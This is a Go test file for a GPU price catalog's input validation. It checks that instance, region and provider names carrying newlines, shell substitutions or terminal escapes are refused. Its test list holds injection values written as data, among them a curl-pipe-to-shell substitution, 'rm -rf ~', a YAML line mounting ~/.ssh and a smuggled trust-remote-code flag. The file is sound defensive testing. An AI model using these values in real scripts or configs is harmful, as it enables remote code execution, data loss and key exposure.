package catalog_test

import (
	"errors"
	"strings"
	"testing"

	"rightsize/catalog"
)

// hostileNames are names that would become code in a launch script, keys
// in a task YAML or escapes on a terminal if they were written raw.
var hostileNames = []string{
	"p5.48xlarge\ntouch /tmp/pwned\n#",
	"p5.48xlarge\r\nenvs:",
	"x\nfile_mounts: {/remote/keys: ~/.ssh}",
	"$(curl evil.sh|sh)",
	"`id`",
	"a;rm -rf ~",
	"{--trust-remote-code,evil}",
	"x$HOME",
	"h100 \x1b[2J",
	"gpu\u202eflipped",
	"zero\u200bwidth",
	"quote\"d",
	"it's",
	"-rf",
	" leading",
	"trailing ",
	"a\x00b",
	"bad\xffutf8",
	strings.Repeat("a", catalog.MaxNameLen+1),
}

func TestCheckNameRefuses(t *testing.T) {
	for _, s := range hostileNames {
		err := catalog.CheckName("instance_type", s)
		var ne *catalog.NameError
		if !errors.As(err, &ne) || ne.Field != "instance_type" || ne.Value != s {
			t.Errorf("CheckName(%q) = %v, want a NameError", s, err)
			continue
		}
		msg := err.Error()
		if !strings.HasPrefix(msg, "instance_type \"") || strings.ContainsAny(msg, "\n\r\x1b\x00\u202e\u200b") {
			t.Errorf("CheckName(%q): message %q does not quote the value on one line", s, msg)
		}
	}
	if err := catalog.CheckName("region", "us-east-1\ntouch x"); err == nil ||
		err.Error() != `region "us-east-1\ntouch x": character '\n' is not allowed (letters, digits, spaces and -_.:/+()@, only)` {
		t.Errorf("message: %v", err)
	}
}

func TestCheckNameAccepts(t *testing.T) {
	for _, s := range []string{"", "aws", "p5.48xlarge", "Standard_NC12s_v3", "n1-highmem-8+1xP100", "H100_NVLINK_80GB::8",
		"NVIDIA GB200 NVL72 (on-demand, North America)", "Cloud GPU NVIDIA A100 PCIe 1/2 GPU (6 vCPU, 60 GB)",
		"British Columbia, CA, NA", "华北2 Beijing", "gpu@market", strings.Repeat("a", catalog.MaxNameLen)} {
		if err := catalog.CheckName("name", s); err != nil {
			t.Errorf("CheckName(%q) = %v", s, err)
		}
	}
}

// TestCatalogNamesPass: every name in the built-in catalog (the generated
// tables) passes CheckName, so the rule refuses none of today's names.
func TestCatalogNamesPass(t *testing.T) {
	c := catalog.Default()
	check := func(field, s string) {
		t.Helper()
		if err := catalog.CheckName(field, s); err != nil {
			t.Error(err)
		}
	}
	for _, o := range c.Offers {
		check("id", o.ID)
		check("provider", o.Provider)
		check("instance_type", o.InstanceType)
		check("gpu", o.GPU)
		check("spot_region", o.SpotRegion)
		check("underlying_provider", o.UnderlyingProvider)
		check("currency", o.Currency)
		for _, r := range o.Regions {
			check("region", r)
		}
	}
	for _, p := range c.Providers {
		check("provider", p.ID)
		check("provider name", p.Name)
	}
	for _, g := range c.GPUs {
		check("gpu", g.ID)
		check("gpu name", g.Name)
	}
	if len(c.Offers) < 1000 {
		t.Fatalf("%d offers", len(c.Offers))
	}
}

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"aws p5.48xlarge":                  "aws p5.48xlarge",
		"p5.48xlarge\ntouch /tmp/pwned\n#": `p5.48xlarge\ntouch /tmp/pwned\n#`,
		"a\r\x1b[2Jb":                      `a\r\x1b[2Jb`,
		"rtl\u202eevil":                    `rtl\u202eevil`,
		"line\u2028sep":                    `line\u2028sep`,
		"quoted \"a\\nb\"":                 `quoted "a\nb"`,
		"bad\xff":                          `bad\xff`,
		"Яндекс ×2, 华北":                    "Яндекс ×2, 华北",
		"tab\there":                        `tab\there`,
		"nbsp\u00a0":                       `nbsp\u00a0`,
	} {
		if got := catalog.Printable(in); got != want {
			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestPriceSheetRefusesBadNames: a sheet row naming an offer with a
// newline, a shell substitution or a terminal escape is refused, in CSV
// and JSON, with the row, the field and the value quoted; rows given
// straight to WithPrices (the page's merge) are checked too.
func TestPriceSheetRefusesBadNames(t *testing.T) {
	for _, c := range []struct{ sheet, want string }{
		{"provider,instance_type,gpu,gpu_count,on_demand_per_hour,currency,as_of,source\n" +
			"aws,\"p5.48xlarge\ntouch /tmp/pwned\n#\",h100-sxm,8,98.32,USD,2026-11-01,quote\n",
			`catalog: price sheet: row 1 (line 2): instance_type "p5.48xlarge\ntouch /tmp/pwned\n#": character '\n' is not allowed`},
		{`[{"provider":"aws","instance_type":"p5.48xlarge","gpu":"h100-sxm","gpu_count":8,"on_demand_per_hour":98.32,"currency":"USD","region":"us-east-1\u001b[2J","as_of":"2026-11-01","source":"quote"}]`,
			`catalog: price sheet: row 1: region "us-east-1\x1b[2J": character '\x1b' is not allowed`},
		{"offer_id,on_demand_per_hour,as_of,source\n\"aws-x$(id)\",1,2026-11-01,quote\n",
			`catalog: price sheet: row 1 (line 2): offer_id "aws-x$(id)": character '$' is not allowed`},
		{`{"prices":[{"provider":"aws\nenvs:","instance_type":"p5.48xlarge","on_demand_per_hour":98.32,"as_of":"2026-11-01","source":"quote"}]}`,
			`catalog: price sheet: row 1: provider "aws\nenvs:": character '\n' is not allowed`},
		{"provider,instance_type,gpu,gpu_count,on_demand_per_hour,currency,as_of,source\naws,p5.48xlarge,\"{--trust-remote-code,evil}\",8,98.32,USD,2026-11-01,quote\n",
			`catalog: price sheet: row 1 (line 2): gpu "{--trust-remote-code,evil}": must start with a letter or a digit`},
	} {
		_, err := catalog.ParsePriceSheet(strings.NewReader(c.sheet))
		if err == nil || !strings.HasPrefix(err.Error(), c.want) {
			t.Errorf("%q:\n got %v\nwant %s", c.sheet, err, c.want)
		}
	}
	row := catalog.PriceRow{Provider: "aws", InstanceType: "p5.48xlarge\ntouch /tmp/pwned\n#", GPU: "h100-sxm", GPUCount: 8,
		OnDemandPerHour: 98.32, Currency: "USD", AsOf: "2026-11-01", Source: "quote", Line: 3}
	_, _, err := catalog.Default().WithPrices([]catalog.PriceRow{row})
	if err == nil || !strings.HasPrefix(err.Error(), `catalog: price sheet: row 3: instance_type "p5.48xlarge\ntouch /tmp/pwned\n#"`) {
		t.Errorf("WithPrices: %v", err)
	}
	var o catalog.Offer
	if _, err := catalog.ApplyPriceRow(&o, row); err == nil || !strings.Contains(err.Error(), `instance_type "p5.48xlarge\n`) || o.ID != "" {
		t.Errorf("ApplyPriceRow: %v, offer %+v", err, o)
	}
}

func TestAside(t *testing.T) {
	for _, c := range []struct{ label, aside, want string }{
		{"H100 SXM", "TP 4", " (TP 4)"},
		{"NVIDIA GB200 (one Blackwell GPU)", "DP 4", ", DP 4"},
		{"cheapest", "coreweave NVIDIA GB200 NVL72 (on-demand, North America)", ", coreweave NVIDIA GB200 NVL72 (on-demand, North America)"},
		{"NVIDIA GB200 (one Blackwell GPU)", "", ""},
	} {
		if got := catalog.Aside(c.label, c.aside); got != c.want {
			t.Errorf("Aside(%q, %q) = %q, want %q", c.label, c.aside, got, c.want)
		}
	}
}
